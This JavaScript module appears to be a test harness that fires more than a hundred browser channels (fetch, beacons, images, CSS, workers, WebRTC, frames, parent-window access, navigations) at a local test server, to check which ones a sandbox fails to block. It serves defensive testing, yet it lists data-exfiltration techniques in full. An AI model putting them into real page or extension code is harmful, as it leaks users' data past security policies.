/* eslint-disable @typescript-eslint/ban-ts-comment */
// @ts-nocheck Many of these calls are known to few browsers only, and some are made wrongly on purpose.
/**
 * Every way by which code in a page or a worker can have the browser send something to a server. Runs there as text, so
 * it uses nothing from outside itself. Each request's path ends in the way's name, so that servers can tell which got through.
 *
 * @param {{ origin: string, stunPort: number }} target
 * @param {{ only?: string[], listOnly?: boolean, stay?: boolean, patienceMs?: number }} [options] without `only`, all ways
 *   that fit the context; with `stay`, none that leads to another address; what does not settle is waited for so long
 * @returns {Promise<string[]>} the ways that were tried, or with `listOnly` would be
 */
export async function tryWaysOut({ origin, stunPort }, { only, listOnly, stay, patienceMs = 2500 } = {}) {
  const inDocument = typeof document !== 'undefined';
  const url = (way) => `${origin}/${way}?secret`;
  const pause = (durationMs) => new Promise((resolve) => setTimeout(resolve, durationMs));

  const anywhere = {
    fetch: () => fetch(url('fetch')),
    'fetch-no-cors': () => fetch(url('fetch-no-cors'), { mode: 'no-cors', method: 'POST', body: 'secret' }),
    'fetch-keepalive': () => fetch(url('fetch-keepalive'), { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
    'fetch-later': () => globalThis.fetchLater?.(url('fetch-later'), { activateAfter: 0 }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', url('xhr'));
      request.send('secret');
    },
    websocket: () => new WebSocket(url('websocket').replace('http', 'ws')),
    'websocket-stream': () => new globalThis.WebSocketStream(url('websocket-stream').replace('http', 'ws')).opened,
    'event-source': () => void new EventSource(url('event-source')),
    webtransport: () => new WebTransport(`https://127.0.0.1:${stunPort}/webtransport`).ready,
    'module-import': () => import(url('module-import')),
    'nested-worker': () => new Worker(url('nested-worker')),
    'nested-module-worker': () => new Worker(url('nested-module-worker'), { type: 'module' }),
    'blob-worker-import': () => new Worker(blobOf(`importScripts(${JSON.stringify(url('blob-worker-import'))})`)),
    'blob-worker-fetch': () => new Worker(blobOf(`fetch(${JSON.stringify(url('blob-worker-fetch'))}, { mode: 'no-cors' })`)),
    'blob-module-worker-import': () => new Worker(blobOf(`import ${JSON.stringify(url('blob-module-worker-import'))}`), { type: 'module' }),
    'data-worker-fetch': () => new Worker(`data:text/javascript,fetch(${JSON.stringify(url('data-worker-fetch'))}, { mode: 'no-cors' })`),
    'shared-worker': () => new SharedWorker(url('shared-worker')),
    'blob-shared-worker': () => new SharedWorker(blobOf(`fetch(${JSON.stringify(url('blob-shared-worker'))}, { mode: 'no-cors' })`)),
    'service-worker': () => navigator.serviceWorker.register(url('service-worker')),
    'font-face': () => new FontFace('stolen', `url(${JSON.stringify(url('font-face'))})`).load(),
    'cache-add': async () => (await caches.open('ways-out')).add(url('cache-add')),
    'import-scripts': () => globalThis.importScripts?.(url('import-scripts')),
    'webrtc': () => callOut(globalThis),
    'background-fetch': async () => (await navigator.serviceWorker.getRegistration())?.backgroundFetch.fetch('out', url('background-fetch')),
  };

  const inDocuments = {
    beacon: () => navigator.sendBeacon(url('beacon'), 'secret'),
    image: () => void (new Image().src = url('image')),
    'image-srcset': () => added('img', { srcset: `${url('image-srcset')} 2x, ${url('image-srcset')} 1x` }),
    picture: () => added('picture', {}).append(made('source', { srcset: url('picture') }), made('img', {})),
    'svg-image': () => addedSvg('image', url('svg-image')),
    'svg-use': () => addedSvg('use', `${url('svg-use')}#a`),
    'svg-script': () => addedSvg('script', url('svg-script')),
    'svg-fe-image': () => addedSvg('feImage', url('svg-fe-image')),
    'video-poster': () => added('video', { poster: url('video-poster') }),
    video: () => void added('video', { src: url('video') }).load(),
    audio: () => new Audio(url('audio')).load(),
    track: () => {
      const video = added('video', { crossOrigin: 'anonymous' });
      video.append(made('track', { src: url('track'), default: true }));
      video.textTracks[0].mode = 'showing';
    },
    object: () => added('object', { data: url('object') }),
    embed: () => added('embed', { src: url('embed') }),
    'input-image': () => added('input', { type: 'image', src: url('input-image') }),
    'body-background': () => document.body?.setAttribute('background', url('body-background')),
    script: () => added('script', { src: url('script') }),
    'module-script': () => added('script', { type: 'module', src: url('module-script') }),
    'import-map': () => added('script', { type: 'importmap', textContent: JSON.stringify({ imports: { out: url('import-map') } }) }) && import('out'),
    stylesheet: () => added('link', { rel: 'stylesheet', href: url('stylesheet') }),
    'style-import': () => added('style', { textContent: `@import url(${JSON.stringify(url('style-import'))});` }),
    'style-background': () => added('style', { textContent: `body { background: url(${JSON.stringify(url('style-background'))}) }` }),
    'style-attribute': () => added('div', {}).setAttribute('style', `background: url(${JSON.stringify(url('style-attribute'))})`),
    'style-object': () => void (added('div', {}).style.backgroundImage = `url(${JSON.stringify(url('style-object'))})`),
    'style-cursor': () => void (document.documentElement.style.cursor = `url(${JSON.stringify(url('style-cursor'))}), auto`),
    'adopted-sheet': () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`html { background: url(${JSON.stringify(url('adopted-sheet'))}) }`);
      document.adoptedStyleSheets = [sheet];
    },
    'style-font': () => {
      added('style', { textContent: `@font-face { font-family: out; src: url(${JSON.stringify(url('style-font'))}) }` });
      Object.assign(added('p', { textContent: 'text' }).style, { fontFamily: 'out' });
    },
    icon: () => added('link', { rel: 'icon', href: url('icon') }),
    'web-manifest': () => added('link', { rel: 'manifest', href: url('web-manifest') }),
    'app-touch-icon': () => added('link', { rel: 'apple-touch-icon', href: url('app-touch-icon') }),
    preload: () => added('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: url('preload') }),
    'preload-image': () => added('link', { rel: 'preload', as: 'image', href: url('preload-image') }),
    modulepreload: () => added('link', { rel: 'modulepreload', href: url('modulepreload') }),
    prefetch: () => added('link', { rel: 'prefetch', href: url('prefetch') }),
    prerender: () => added('link', { rel: 'prerender', href: url('prerender') }),
    preconnect: () => added('link', { rel: 'preconnect', href: origin }),
    'dns-prefetch': () => added('link', { rel: 'dns-prefetch', href: origin.replace('127.0.0.1', 'secret.dns-prefetch.test') }),
    'compression-dictionary': () => added('link', { rel: 'compression-dictionary', href: url('compression-dictionary') }),
    'speculation-prefetch': () => added('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [url('speculation-prefetch')], eagerness: 'immediate' }] }) }),
    'speculation-prerender': () => added('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', urls: [url('speculation-prerender')], eagerness: 'immediate' }] }) }),
    frame: () => added('iframe', { src: url('frame') }),
    'frame-navigated': () => void (added('iframe', {}).contentWindow.location = url('frame-navigated')),
    'frame-srcdoc': () => added('iframe', { srcdoc: `<img src="${url('frame-srcdoc')}">` }),
    'frame-data': () => added('iframe', { src: `data:text/html,<img src="${url('frame-data')}">` }),
    'frame-blob': () => added('iframe', { src: blobOf(`<img src="${url('frame-blob')}">`, 'text/html') }),
    'frame-script-url': () => added('iframe', { src: `javascript:fetch(${JSON.stringify(url('frame-script-url'))})` }),
    'fenced-frame': () => added('fencedframe', { config: new globalThis.FencedFrameConfig(url('fenced-frame')) }),
    'blank-frame-fetch': () => added('iframe', {}).contentWindow.fetch(url('blank-frame-fetch'), { mode: 'no-cors' }),
    'blank-frame-image': () => void (new (added('iframe', {}).contentWindow.Image)().src = url('blank-frame-image')),
    'blank-frame-beacon': () => added('iframe', {}).contentWindow.navigator.sendBeacon(url('blank-frame-beacon')),
    'blank-frame-webrtc': () => callOut(added('iframe', {}).contentWindow),
    'blank-frame-in-frame-webrtc': () => {
      const outer = added('iframe', {}).contentDocument;
      return callOut(outer.body.appendChild(outer.createElement('iframe')).contentWindow);
    },
    'cloned-frame-webrtc': () => callOut(document.body.appendChild(made('iframe', {}).cloneNode()).contentWindow),
    'parsed-frame-webrtc': () => {
      added('div', {}).innerHTML = '<iframe></iframe>';
      return callOut(frames[frames.length - 1]);
    },
    'foreign-document-frame-webrtc': () => {
      const other = document.implementation.createHTMLDocument('');
      return callOut(document.body.appendChild(other.createElement('iframe')).contentWindow);
    },
    'namespaced-frame-webrtc': () => {
      const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
      return callOut(document.body.appendChild(frame).contentWindow);
    },
    'object-frame-webrtc': () => callOut(added('object', { data: 'about:blank', type: 'text/html' }).contentWindow),
    'own-file-frame-fetch': async () => {
      const frame = added('iframe', { src: new URL('sample/sample.json', document.baseURI).href });
      await pause(1000);
      await frame.contentWindow.fetch(url('own-file-frame-fetch'), { mode: 'no-cors' });
    },
    'own-page-frame-fetch': async () => {
      const frame = added('iframe', { src: new URL('no-such-page', document.baseURI).href });
      await pause(1000);
      await frame.contentWindow.fetch(url('own-page-frame-fetch'), { mode: 'no-cors' });
    },
    'own-page-frame-webrtc': async () => {
      const frame = added('iframe', { src: new URL('dock.html', document.baseURI).href });
      await pause(1000);
      await callOut(frame.contentWindow);
    },
    'parent-fetch': () => parent.fetch(url('parent-fetch'), { mode: 'no-cors' }),
    'parent-image': () => void (new parent.Image().src = url('parent-image')),
    'parent-webrtc': () => callOut(parent),
    'parent-frame': () => parent.document.body.append(madeIn(parent.document, 'iframe', { src: url('parent-frame') })),
    'parent-own-file-frame-fetch': async () => {
      const frame = parent.document.body.appendChild(madeIn(parent.document, 'iframe', { src: new URL('sample/sample.json', document.baseURI).href }));
      await pause(1000);
      await frame.contentWindow.fetch(url('parent-own-file-frame-fetch'), { mode: 'no-cors' });
    },
    'parent-blank-frame-webrtc': () => callOut(parent.document.body.appendChild(madeIn(parent.document, 'iframe', {})).contentWindow),
    'meta-policy-report': () => {
      const policy = `img-src 'none'; report-uri ${url('meta-policy-report')}`;
      document.head.append(made('meta', { httpEquiv: 'Content-Security-Policy', content: policy }));
      added('img', { src: `${origin}/refused` });
    },
    'open-noopener': () => open(url('open-noopener'), '_blank', 'noopener'),
    open: () => open(url('open')),
    'open-blank-fetch': () => open('about:blank').fetch(url('open-blank-fetch'), { mode: 'no-cors' }),
    'open-blank-webrtc': () => callOut(open('about:blank')),
    'picture-in-picture': async () => (await globalThis.documentPictureInPicture.requestWindow()).fetch(url('picture-in-picture')),
    'link-blank': () => clicked({ href: url('link-blank'), target: '_blank' }),
    'payment-request': () => new PaymentRequest([{ supportedMethods: url('payment-request') }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    'federated-login': () => navigator.credentials.get({ identity: { providers: [{ configURL: url('federated-login'), clientId: 'x' }] } }),
    'attribution': () => added('img', { attributionSrc: url('attribution') }),
    'shared-storage': () => globalThis.sharedStorage?.worklet.addModule(url('shared-storage')),
    'paint-worklet': () => globalThis.CSS.paintWorklet?.addModule(url('paint-worklet')),
    'audio-worklet': () => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(url('audio-worklet')),
    'web-install': () => navigator.install?.(url('web-install')),
    'protocol-handler': () => navigator.registerProtocolHandler('web+out', `${url('protocol-handler')}%s`),
  };

  /** Ways that lead the page somewhere else. */
  const navigations = {
    form: () => HTMLFormElement.prototype.submit.call(added('form', { action: url('form'), method: 'post' })),
    'form-blank': () => HTMLFormElement.prototype.submit.call(added('form', { action: url('form-blank'), target: '_blank' })),
    'form-top': () => HTMLFormElement.prototype.submit.call(added('form', { action: url('form-top'), target: '_top' })),
    location: () => void (location.href = url('location')),
    'location-replace': () => location.replace(url('location-replace')),
    'top-location': () => void (top.location = url('top-location')),
    'parent-location': () => parent.location.assign(url('parent-location')),
    'navigation-api': () => globalThis.navigation.navigate(url('navigation-api')).committed,
    'parent-navigation-api': () => parent.navigation.navigate(url('parent-navigation-api')).committed,
    link: () => clicked({ href: url('link') }),
    'link-ping': () => clicked({ href: '#/', ping: url('link-ping') }),
    'link-download': () => clicked({ href: url('link-download'), download: 'secret.txt' }),
    'link-top': () => clicked({ href: url('link-top'), target: '_top' }),
    'link-alt-click': () => made('a', { href: url('link-alt-click') }).dispatchEvent(new MouseEvent('click', { altKey: true })),
    'link-ctrl-click': () => made('a', { href: url('link-ctrl-click') }).dispatchEvent(new MouseEvent('click', { ctrlKey: true })),
    'svg-link': () => addedSvg('a', url('svg-link')).dispatchEvent(new MouseEvent('click')),
    'parent-link': () => parent.document.body.appendChild(madeIn(parent.document, 'a', { href: url('parent-link') })).click(),
    'parent-link-blank': () => parent.document.body.appendChild(madeIn(parent.document, 'a', { href: url('parent-link-blank'), target: '_blank' })).click(),
    'parent-open': () => parent.open(url('parent-open')),
    'open-top': () => open(url('open-top'), '_top'),
    'open-self': () => open(url('open-self'), '_self'),
    'meta-refresh': async () => {
      document.head.append(made('meta', { httpEquiv: 'refresh', content: `0; url=${url('meta-refresh')}` }));
      await pause(500);
    },
    'parent-meta-refresh': async () => {
      parent.document.head.append(madeIn(parent.document, 'meta', { httpEquiv: 'refresh', content: `0; url=${url('parent-meta-refresh')}` }));
      await pause(500);
    },
    'base-and-link': () => {
      document.head.append(made('base', { href: `${origin}/` }));
      clicked({ href: 'base-and-link?secret' });
    },
    'script-url': () => void (location.href = `javascript:fetch(${JSON.stringify(url('script-url'))})`),
    'document-write': () => document.write(`<img src="${url('document-write')}">`),
  };

  function madeIn(home, tag, properties) {
    const element = home.createElement(tag);
    for (const [name, value] of Object.entries(properties)) {
      if (name in element) element[name] = value;
      else element.setAttribute(name, value);
    }
    return element;
  }
  function made(tag, properties) {
    return madeIn(document, tag, properties);
  }
  function added(tag, properties) {
    const home = ['link', 'style', 'script', 'meta', 'base'].includes(tag) ? document.head : document.body;
    return (home ?? document.documentElement).appendChild(made(tag, properties));
  }
  function addedSvg(tag, href) {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const element = document.createElementNS('http://www.w3.org/2000/svg', tag);
    element.setAttribute('href', href);
    svg.append(element);
    (document.body ?? document.documentElement).append(svg);
    return element;
  }
  function clicked(properties) {
    added('a', properties).click();
  }
  function blobOf(text, type = 'text/javascript') {
    return URL.createObjectURL(new Blob([text], { type }));
  }
  async function callOut(realm) {
    const Connection = realm.RTCPeerConnection ?? realm.webkitRTCPeerConnection;
    const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
    connection.createDataChannel('secret');
    await connection.setLocalDescription(await connection.createOffer());
    await pause(500);
  }

  const groups = inDocument ? [anywhere, inDocuments, ...(stay ? [] : [navigations])] : [anywhere];
  const tried = [];
  for (const group of groups) {
    const ways = Object.entries(group).filter(([way]) => only === undefined || only.includes(way));
    tried.push(...ways.map(([way]) => way));
    if (listOnly) continue;
    // What is refused may never settle; what gets through has been sent by then.
    await Promise.all(ways.map(([, go]) => Promise.race([attempted(go), pause(patienceMs)])));
  }
  return tried;

  // How a way is refused differs from browser to browser; only what servers see counts.
  async function attempted(go) {
    try {
      await go();
    } catch {
      // Refused, as it should be.
    }
  }
}
